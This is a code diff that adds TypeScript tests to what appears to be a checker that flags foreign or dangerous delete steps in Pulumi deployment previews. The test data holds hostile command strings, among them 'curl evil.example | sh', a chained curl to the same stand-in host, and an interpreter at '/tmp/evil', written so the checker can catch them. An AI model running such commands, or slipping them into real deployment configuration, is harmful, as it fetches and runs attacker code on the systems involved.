@@ -632,6 +632,58 @@ test("a container that was stopped by hand is said to be so", () => {
   );
 });
 
+describe("a step that is in the state, and that the program never made", () => {
+  const COMMAND = "command:local:Command";
+  const going = (old: Readonly<Record<string, unknown>>, type = COMMAND, name = "database-login") =>
+    stepsFor({ type, name, in: "database", old: { ...old } });
+
+  test.each<[string, PreviewStep[], string]>([
+    [
+      "a command of another form",
+      going({ delete: "curl evil.example | sh" }),
+      "it runs `curl evil",
+    ],
+    [
+      "more words behind ours",
+      going({ delete: "sh -s remove x; curl evil.example" }),
+      "it runs `sh -s remove x; curl",
+    ],
+    [
+      "another interpreter",
+      going({ delete: "sh -s remove x", interpreter: ["/tmp/evil"] }),
+      "it has an interpreter",
+    ],
+    [
+      "a part that stays",
+      going({ delete: "sh -s remove x" }),
+      "database stays, and has no such step",
+    ],
+    [
+      "code of its own",
+      going({}, "pulumi-nodejs:dynamic:Resource"),
+      "nothing of the kind pulumi-nodejs",
+    ],
+    [
+      "a remote command",
+      going({ delete: "sh" }, "command:remote:Command"),
+      "nothing of the kind command:",
+    ],
+  ])("is a danger: %s", (_, steps, text) => {
+    const all = report(there, steps);
+    expect(all).toMatchObject({ verdict: ["foreign step"], dangerous: true });
+    expect(texts(all)[0]).toContain(text);
+  });
+
+  test("is none that goes with all of its part, and none that runs nothing as it goes", () => {
+    const [parent, step] = going({ delete: "sh -s remove database-login" }) as [
+      PreviewStep,
+      PreviewStep,
+    ];
+    expect(report(there, [{ ...parent, op: "delete" }, step]).dangerous).toBe(false);
+    expect(report(there, going({ create: "sh -s apply web-3-healthy" })).dangerous).toBe(false);
+  });
+});
+
 test.each([
   ["ingress", "memory"],
   ["database", "cpuShares"],
